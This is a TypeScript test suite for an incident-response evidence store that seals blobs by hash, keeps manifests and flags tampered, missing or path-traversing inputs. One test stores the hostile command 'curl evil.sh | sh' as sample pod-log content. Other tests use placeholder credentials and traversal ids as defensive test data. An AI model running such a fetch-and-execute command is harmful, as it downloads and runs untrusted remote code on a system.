import { chmod, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  EvidenceManifestCorruptError,
  InvalidEvidenceInputError,
  LocalEvidenceStore,
  UnknownIncidentError,
} from '../../activities/evidence/index.ts';
import { reusedBufferStream, sha256, tempDir } from './helpers.ts';

function blobPath(dir: string, hash: string): string {
  return join(dir, 'blobs', 'sha256', hash.slice(0, 2), hash);
}

describe('the local evidence store', () => {
  it('seals content under its SHA-256 and size and returns a file URI to the stored blob', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);
    const content = '{"pod":"web-1","phase":"Running"}\n';

    const ref = await store.seal({ incidentId: 'INC-1', name: 'pod web-1', content, mediaType: 'application/json' });

    expect(ref).toEqual({
      incidentId: 'INC-1',
      name: 'pod web-1',
      mediaType: 'application/json',
      uri: pathToFileURL(blobPath(dir, sha256(content))).href,
      sha256: sha256(content),
      bytes: Buffer.byteLength(content),
      capturedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
    });
    expect(await readFile(blobPath(dir, ref.sha256), 'utf8')).toBe(content);
  });

  it('returns the first reference, and records no second entry, when the same content is sealed again', async () => {
    const store = new LocalEvidenceStore(await tempDir());
    const input = { incidentId: 'INC-2', name: 'node events', content: new Uint8Array([1, 2, 3]), mediaType: 'text/plain' };

    const first = await store.seal(input);
    await new Promise((r) => setTimeout(r, 5));
    const again = await store.seal({ ...input, content: new Uint8Array([1, 2, 3]) });

    expect(again).toEqual(first);
    expect(await store.manifest('INC-2')).toEqual([first]);
  });

  it('stores blobs read-only, and a new content under the same name gets its own hash beside the first', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);

    const v1 = await store.seal({ incidentId: 'INC-3', name: 'iam policy', content: 'version 1' });
    const v2 = await store.seal({ incidentId: 'INC-3', name: 'iam policy', content: 'version 2' });

    expect(v2.sha256).not.toBe(v1.sha256);
    expect((await stat(blobPath(dir, v1.sha256))).mode & 0o777).toBe(0o444);
    expect(await readFile(blobPath(dir, v1.sha256), 'utf8')).toBe('version 1');
    expect((await store.manifest('INC-3')).map((e) => e.sha256)).toEqual([v1.sha256, v2.sha256]);
  });

  it('lists the manifest in capture order with names, hashes and sizes, never the content', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);
    const secrets = ['AKIAEXAMPLESECRET0001', 'password=hunter2', 'xoxb-not-a-real-token'];

    for (const [i, secret] of secrets.entries()) {
      await store.seal({ incidentId: 'INC-4', name: `item ${i}`, content: `${secret}\n`, mediaType: 'text/plain' });
    }

    const manifest = await store.manifest('INC-4');
    expect(manifest.map((e) => e.name)).toEqual(['item 0', 'item 1', 'item 2']);
    expect(manifest.map((e) => e.sha256)).toEqual(secrets.map((s) => sha256(`${s}\n`)));
    const times = manifest.map((e) => e.capturedAt);
    expect([...times].sort()).toEqual(times);
    expect(new Set(times).size).toBe(times.length);
    const raw = await readFile(join(dir, 'incidents', 'INC-4', 'manifest.jsonl'), 'utf8');
    expect(raw.trim().split('\n')).toHaveLength(3);
    for (const secret of secrets) expect(raw).not.toContain(secret);
  });

  it('verifies an untouched incident as ok, item by item', async () => {
    const store = new LocalEvidenceStore(await tempDir());
    const a = await store.seal({ incidentId: 'INC-5', name: 'a', content: 'alpha' });
    const b = await store.seal({ incidentId: 'INC-5', name: 'b', content: 'beta' });

    expect(await store.verify('INC-5')).toEqual({
      incidentId: 'INC-5',
      ok: true,
      items: [
        { name: 'a', sha256: a.sha256, status: 'ok' },
        { name: 'b', sha256: b.sha256, status: 'ok' },
      ],
    });
  });

  it('reports a blob rewritten after sealing as a mismatch, with the hash of what is stored now', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);
    const kept = await store.seal({ incidentId: 'INC-6', name: 'kept', content: 'untouched' });
    const ref = await store.seal({ incidentId: 'INC-6', name: 'audit log', content: 'user deleted bucket' });

    await chmod(blobPath(dir, ref.sha256), 0o644);
    await writeFile(blobPath(dir, ref.sha256), 'nothing happened');

    const report = await store.verify('INC-6');
    expect(report.ok).toBe(false);
    expect(report.items).toEqual([
      { name: 'kept', sha256: kept.sha256, status: 'ok' },
      { name: 'audit log', sha256: ref.sha256, status: 'mismatch', actualSha256: sha256('nothing happened') },
    ]);
  });

  it('reports a deleted blob as missing', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);
    const ref = await store.seal({ incidentId: 'INC-7', name: 'pod logs', content: 'curl evil.sh | sh' });

    await rm(blobPath(dir, ref.sha256));

    expect(await store.verify('INC-7')).toEqual({
      incidentId: 'INC-7',
      ok: false,
      items: [{ name: 'pod logs', sha256: ref.sha256, status: 'missing' }],
    });
  });

  it('refuses to verify an incident that has no manifest, naming it', async () => {
    const store = new LocalEvidenceStore(await tempDir());
    await store.seal({ incidentId: 'INC-8', name: 'x', content: 'x' });

    await expect(store.verify('INC-9')).rejects.toSatisfy(
      (e) => e instanceof UnknownIncidentError && e.message.includes('"INC-9"') && !e.retryable,
    );
    expect(await store.manifest('INC-9')).toEqual([]);
  });

  it.each(['../escape', '..', 'a/b', '.hidden', '', 'INC 1', 'INC\n1', `C:\\x`])(
    'rejects the incident id %j, which could leave the store directory, and writes nothing',
    async (incidentId) => {
      const parent = await tempDir();
      const dir = join(parent, 'store');
      const store = new LocalEvidenceStore(dir);

      await expect(store.seal({ incidentId, name: 'x', content: 'x' })).rejects.toBeInstanceOf(InvalidEvidenceInputError);
      await expect(store.manifest(incidentId)).rejects.toBeInstanceOf(InvalidEvidenceInputError);
      await expect(store.verify(incidentId)).rejects.toBeInstanceOf(InvalidEvidenceInputError);
      expect(await readdir(parent)).toEqual([]);
    },
  );

  it('seals a multi-megabyte stream chunk by chunk, even when the producer reuses its buffer', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);
    const { stream, sha256: expected, bytes } = reusedBufferStream(24, 1024 * 1024);

    const ref = await store.seal({ incidentId: 'INC-10', name: 'memory dump', content: stream });

    expect(ref).toMatchObject({ sha256: expected, bytes, mediaType: 'application/octet-stream' });
    expect((await stat(blobPath(dir, expected))).size).toBe(bytes);
    expect((await store.verify('INC-10')).ok).toBe(true);
  });

  it('accepts a Node Readable as content', async () => {
    const store = new LocalEvidenceStore(await tempDir());
    const ref = await store.seal({ incidentId: 'INC-11', name: 'stdout', content: Readable.from([Buffer.from('line 1\n'), Buffer.from('line 2\n')]) });
    expect(ref).toMatchObject({ sha256: sha256('line 1\nline 2\n'), bytes: 14 });
  });

  it('reports a manifest edited by hand as corrupt instead of trusting it', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);
    await store.seal({ incidentId: 'INC-12', name: 'x', content: 'x' });
    await writeFile(join(dir, 'incidents', 'INC-12', 'manifest.jsonl'), '{"name":"x","content":"injected"}\n', { flag: 'a' });

    await expect(store.verify('INC-12')).rejects.toSatisfy(
      (e) => e instanceof EvidenceManifestCorruptError && e.message.includes('Line 2'),
    );
  });

  it('stores content that two incidents seal once, listed in both manifests, leaving no temporary file', async () => {
    const dir = await tempDir();
    const store = new LocalEvidenceStore(dir);
    const a = await store.seal({ incidentId: 'INC-13', name: 'shared', content: 'same bytes' });
    const b = await store.seal({ incidentId: 'INC-14', name: 'shared', content: 'same bytes' });

    expect(b.uri).toBe(a.uri);
    expect(b.incidentId).toBe('INC-14');
    expect(await readdir(join(dir, 'blobs', 'sha256', a.sha256.slice(0, 2)))).toEqual([a.sha256]);
    expect(await readdir(join(dir, 'tmp'))).toEqual([]);
  });

  describe('sealing a batch', () => {
    it('lists every item in the order given, one manifest line each, with capture times strictly increasing', async () => {
      const dir = await tempDir();
      const store = new LocalEvidenceStore(dir);

      const refs = await store.sealAll([
        { incidentId: 'INC-20', name: 'pod.json', content: '{"pod":1}', mediaType: 'application/json' },
        { incidentId: 'INC-20', name: 'network-policies.json', content: '{"items":[]}', mediaType: 'application/json' },
        { incidentId: 'INC-20', name: 'notes', content: Readable.from([Buffer.from('streamed')]) },
      ]);

      expect(refs.map((r) => r.name)).toEqual(['pod.json', 'network-policies.json', 'notes']);
      expect(await store.manifest('INC-20')).toEqual(refs);
      expect(refs[2]!.sha256).toBe(sha256('streamed'));
      const times = refs.map((r) => Date.parse(r.capturedAt));
      expect(times[0]! < times[1]! && times[1]! < times[2]!).toBe(true);
      expect((await readFile(join(dir, 'incidents', 'INC-20', 'manifest.jsonl'), 'utf8')).split('\n')).toHaveLength(4);
    });

    it('returns the first references and adds no line when the same batch is sealed again (a retried activity)', async () => {
      const store = new LocalEvidenceStore(await tempDir());
      const batch = [
        { incidentId: 'INC-21', name: 'a', content: 'one' },
        { incidentId: 'INC-21', name: 'b', content: 'two' },
      ];

      const first = await store.sealAll(batch);
      const again = await store.sealAll(batch);

      expect(again).toEqual(first);
      expect(await store.manifest('INC-21')).toEqual(first);
    });

    it('refuses a batch spanning two incidents, naming them, and seals nothing', async () => {
      const store = new LocalEvidenceStore(await tempDir());

      await expect(
        store.sealAll([
          { incidentId: 'INC-22', name: 'a', content: 'one' },
          { incidentId: 'INC-23', name: 'b', content: 'two' },
        ]),
      ).rejects.toSatisfy((e) => e instanceof InvalidEvidenceInputError && e.message.includes('INC-22') && e.message.includes('INC-23'));
      expect(await store.manifest('INC-22')).toEqual([]);
    });

    it('lists nothing when one item of the batch is invalid', async () => {
      const store = new LocalEvidenceStore(await tempDir());

      await expect(
        store.sealAll([
          { incidentId: 'INC-24', name: 'fine', content: 'one' },
          { incidentId: 'INC-24', name: 'bad\nname', content: 'two' },
        ]),
      ).rejects.toBeInstanceOf(InvalidEvidenceInputError);
      expect(await store.manifest('INC-24')).toEqual([]);
    });
  });
});
